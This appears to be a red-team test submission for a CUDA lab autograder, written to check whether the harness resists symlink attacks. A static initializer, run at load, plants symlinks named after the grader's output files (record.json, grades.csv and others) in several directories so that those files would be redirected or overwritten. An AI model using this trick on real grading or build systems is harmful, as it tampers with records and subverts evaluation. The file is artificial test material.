// ATTACK: makes links from where a record may be written to a file elsewhere, which would be overwritten
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: no file warpbook-attack-follows-a-link*
// HARM: no link record.json, result.json, 01-map.json or grades.csv

#include "lab.hpp"

#include <fcntl.h>
#include <string>
#include <unistd.h>

static const int done = [] {
    for (const std::string folder : {"/out", "/job", "/tmp", "/dev/shm", ".", ".."}) {
        for (const char* name : {"record.json", "result.json", "01-map.json", "grades.csv"}) {
            (void)!symlink("/tmp/warpbook-attack-follows-a-link", (folder + "/" + name).c_str());
            (void)!symlinkat("../warpbook-attack-follows-a-link", AT_FDCWD,
                             (folder + "/warpbook-attack-follows-a-link-" + name).c_str());
        }
    }
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}
